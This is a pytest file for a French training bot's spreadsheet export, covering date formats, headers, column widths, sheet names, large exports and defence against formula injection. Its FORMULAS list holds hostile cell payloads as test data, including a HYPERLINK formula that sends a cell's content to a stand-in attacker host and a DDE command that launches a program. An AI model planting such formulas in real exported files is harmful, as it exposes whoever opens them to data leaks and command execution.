"""The spreadsheet writer (:mod:`bot.documents.sheets`), every file read back as a reader would.

Workbooks are opened with openpyxl, CSV with the ``csv`` module: dates are
dates, headers are the French columns, widths are set, the BOM and the ``;``
are there, a hostile cell is text, an empty table and a 10,000-row one are
valid files.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import zipfile
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet

from bot.documents.sheets import MAX_CELL, MAX_WIDTH, Moment, csv_text, sheet_title, write
from bot.exports import render
from bot.exports import write as text_export
from tests.auxil.hostile import FOR_CHOICES, HTML

PARIS_WINTER = timezone(timedelta(hours=1))
COLUMNS = ("stagiaire", "date", "saisie le", "fait le", "justifiée", "heures", "motif")
ROW: dict[str, Any] = {
    "stagiaire": "Zoé Lefèvre",
    "date": date(2026, 11, 20),
    "saisie le": Moment(datetime(2026, 11, 23, 10, 0, 41, tzinfo=PARIS_WINTER)),
    "fait le": datetime(2026, 11, 24, 8, 5, tzinfo=PARIS_WINTER),
    "justifiée": False,
    "heures": 9.5,
    "motif": "rendez-vous France Travail",
}


def sheet_of(data: bytes) -> Worksheet:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    assert isinstance(sheet, Worksheet)
    return sheet


def excel_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)
    text = data.decode("utf-8-sig")
    assert text.endswith("\r\n") and text.split("\r\n")[0].count("\n") == 0
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_plain_csv_is_unchanged_comma_iso_dates_no_bom() -> None:
    data = write([ROW], COLUMNS, "csv")
    assert not data.startswith(codecs.BOM_UTF8)
    assert data.decode() == (
        "stagiaire,date,saisie le,fait le,justifiée,heures,motif\n"
        "Zoé Lefèvre,2026-11-20,2026-11-23T10:00+01:00,2026-11-24T08:05:00+01:00,"
        "non,9.5,rendez-vous France Travail\n"
    )
    assert text_export([ROW], COLUMNS, "csv") == data.decode()  # the old entry point
    assert render([ROW], COLUMNS, "csv") == data


def test_csv_for_excel_has_bom_semicolons_crlf_french_dates_and_decimal_comma() -> None:
    table = excel_rows(write([ROW, {**ROW, "heures": Decimal("12.25")}], COLUMNS, "csv-excel"))
    assert table[0] == list(COLUMNS)
    assert table[1] == [
        "Zoé Lefèvre",
        "20/11/2026",
        "23/11/2026 10:00",
        "24/11/2026 08:05",
        "non",
        "9,5",
        "rendez-vous France Travail",
    ]
    assert table[2][5] == "12,25"


def test_xlsx_stores_dates_as_dates_with_french_formats_bold_frozen_headers_and_widths() -> None:
    data = write([ROW], COLUMNS, "xlsx", title="Absences")
    sheet = sheet_of(data)
    assert sheet.title == "Absences"
    assert [c.value for c in sheet[1]] == list(COLUMNS)
    assert all(c.font.b for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:G2"
    name, day, recorded, done, justified, hours, reason = sheet[2]
    assert name.value == "Zoé Lefèvre" and name.data_type == "s"
    assert day.is_date and day.value == datetime(2026, 11, 20)
    assert day.number_format == "dd/mm/yyyy"  # French Excel shows it as jj/mm/aaaa
    # Excel has no zones: the organisation's wall-clock time, as the row gave it.
    assert recorded.value == datetime(2026, 11, 23, 10, 0, 41)
    assert recorded.number_format == done.number_format == "dd/mm/yyyy hh:mm"
    assert justified.value == "non"
    assert hours.value == 9.5 and hours.data_type == "n"
    assert reason.value == "rendez-vous France Travail"
    widths = {k: d.width for k, d in sheet.column_dimensions.items()}
    assert widths["A"] == len("Zoé Lefèvre") + 2
    assert widths["B"] == 12 and widths["G"] == len("rendez-vous France Travail") + 2


def test_xlsx_document_properties_are_formabot_and_french() -> None:
    data = write([ROW], COLUMNS, "xlsx", title="Échéances")
    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.properties.creator == "formabot" and book.properties.title == "Échéances"
    assert book.properties.language == "fr-FR"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        application = archive.read("docProps/app.xml").decode()
    assert "<Application>formabot</Application>" in application
    assert "openpyxl" not in application.lower() and "Microsoft" not in application


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("Absences", "Absences"),
        ("Échéances : 2026/2027 [brouillon]", "Échéances 2026 2027 brouillon"),
        ("", "Export"),
        ("'''", "Export"),
        ("x" * 40, "x" * 31),
    ],
)
def test_sheet_names_are_ones_excel_accepts(given: str, expected: str) -> None:
    shown = sheet_title(given)
    assert len(shown) <= 31 and not set(shown) & set("[]:*?/\\")
    assert shown == expected


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+33 6 12 34 56 78",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_formulas_typed_by_users_stay_text_in_every_format(text: str) -> None:
    rows = [{"stagiaire": text, "motif": text}]
    _header, line = list(
        csv.reader(io.StringIO(write(rows, ["stagiaire", "motif"], "csv").decode(), newline=""))
    )
    assert line == ["'" + text.replace("\r", "\n")] * 2
    _header, line = excel_rows(write(rows, ["stagiaire", "motif"], "csv-excel"))
    assert line == ["'" + text.replace("\r", "\n")] * 2
    sheet = sheet_of(write(rows, ["stagiaire", "motif"], "xlsx"))
    for cell in sheet[2]:
        assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")
        assert cell.quotePrefix  # still text when someone edits the cell in Excel


def test_numbers_the_bot_wrote_stay_numbers() -> None:
    rows = [{"n": -3, "x": 0}]
    assert write(rows, ["n", "x"], "csv").decode() == "n,x\n-3,0\n"
    sheet = sheet_of(write(rows, ["n", "x"], "xlsx"))
    assert [(c.value, c.data_type) for c in sheet[2]] == [(-3, "n"), (0, "n")]


HOSTILE = {bad.label: bad.text for bad in FOR_CHOICES if bad.text} | {
    "formula": FORMULAS[0],
    "html and formula": "=" + HTML,
    "quotes and separators": '"; ,\r\n""',
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_text_gives_files_that_open(text: str) -> None:
    rows = [{"stagiaire": text, "motif": text + "\x00\x07\x1b"}]
    sheet = sheet_of(write(rows, ["stagiaire", "motif"], "xlsx"))
    stored = str(sheet["B2"].value or "")
    assert len(stored) <= MAX_CELL and not any(ord(c) < 9 for c in stored)
    assert all(d.width <= MAX_WIDTH for d in sheet.column_dimensions.values())
    header, line = excel_rows(write(rows, ["stagiaire", "motif"], "csv-excel"))
    assert header == ["stagiaire", "motif"] and len(line) == 2
    assert not line[0].startswith(("=", "+", "-", "@"))


def test_a_cell_longer_than_excel_allows_is_cut_and_says_so() -> None:
    sheet = sheet_of(write([{"motif": "é" * 40_000}], ["motif"], "xlsx"))
    value = str(sheet["A2"].value)
    assert len(value) == MAX_CELL and value.endswith("…")
    assert sheet.column_dimensions["A"].width == MAX_WIDTH


def test_an_empty_export_is_a_header_row_in_every_format() -> None:
    assert write([], COLUMNS, "csv").decode() == ",".join(COLUMNS) + "\n"
    assert excel_rows(write([], COLUMNS, "csv-excel")) == [list(COLUMNS)]
    sheet = sheet_of(write([], COLUMNS, "xlsx", title="Absences"))
    assert sheet.max_row == 1 and [c.value for c in sheet[1]] == list(COLUMNS)
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:G1"


def test_a_big_export_finishes_and_every_format_is_valid() -> None:
    rows = [
        {
            **ROW,
            "stagiaire": f"Stagiaire {n:05d}",
            "date": date(2026, 1, 1) + timedelta(days=n % 365),
            "fait le": datetime(2026, 1, 1, 9, tzinfo=UTC) + timedelta(minutes=n),
        }
        for n in range(10_000)
    ]
    workbook = write(rows, COLUMNS, "xlsx", title="Absences")
    sheet = sheet_of(workbook)
    assert sheet.max_row == 10_001
    assert sheet["A10001"].value == "Stagiaire 09999"
    assert sheet["B10001"].is_date and sheet["B10001"].value == datetime(2026, 5, 25)
    table = excel_rows(write(rows, COLUMNS, "csv-excel"))
    assert len(table) == 10_001 and table[-1][1] == "25/05/2026"
    assert csv_text(rows, COLUMNS).count("\n") == 10_001


def test_json_keeps_iso_moments_as_the_plain_csv_writes_them() -> None:
    (row,) = json.loads(render([ROW], COLUMNS, "json"))
    assert row["saisie le"] == "2026-11-23T10:00+01:00" and row["date"] == "2026-11-20"
    assert row["fait le"] == "2026-11-24T08:05:00+01:00" and row["justifiée"] is False
